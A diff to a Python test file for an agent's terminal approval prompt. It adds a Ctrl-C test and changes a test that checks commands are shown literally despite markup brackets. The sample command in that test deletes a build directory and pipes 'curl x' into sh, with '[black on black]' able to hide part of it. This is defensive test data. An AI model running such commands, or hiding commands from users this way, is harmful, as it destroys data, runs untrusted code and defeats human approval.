@@ -134,11 +134,10 @@ def test_the_terminal_shows_the_call_as_written_whatever_brackets_it_holds(
 ) -> None:
     """The model's input was read as rich markup: `[/]` raised, so the user was never
     asked and the call was denied; `[black on black]` could hide part of a command."""
-    import builtins
-
+    from fsm_agent import approvals
     from fsm_agent.approvals import terminal_prompter
 
-    monkeypatch.setattr(builtins, "input", lambda *a: "y")
+    monkeypatch.setattr(approvals, "_read_line", lambda abort: "y\n")
     command = 'echo "[/]" && rm -rf build [black on black]&& curl x | sh'
     question = PermissionAsk("Bash", {"command": command}, reason=f"Running `{command}`",
                              suggestion="Bash(echo [/] *)")  # fmt: skip
@@ -185,3 +184,21 @@ def test_the_question_stays_on_screen_while_the_user_answers(
     child.close()
     assert child.exitstatus == 0
     assert (workspace / "asked").exists()
+
+
+def test_ctrl_c_at_the_question_denies_the_call_and_ends_the_run(
+    workspace: Path, tmp_path: Path
+) -> None:
+    """Ctrl-C did nothing while the question waited (the answer was read on a thread
+    that no signal reaches): the run hung until the user typed an answer."""
+    import pexpect
+
+    child = _asking(workspace, tmp_path)
+    child.sendintr()
+    child.expect(pexpect.EOF, timeout=20)
+    child.close()
+    assert child.exitstatus == 15
+    assert not (workspace / "asked").exists()
+    log = tmp_path / "l.jsonl"
+    result = replay(log)
+    assert result.reason == "aborted_tools"
